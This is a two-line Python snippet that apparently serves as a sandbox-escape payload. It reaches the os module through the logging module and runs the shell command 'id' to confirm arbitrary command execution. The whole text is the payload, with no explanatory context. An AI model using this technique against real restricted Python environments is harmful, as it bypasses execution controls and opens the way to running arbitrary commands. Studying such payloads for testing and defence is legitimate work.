import logging
[logging][0].os.system("id")
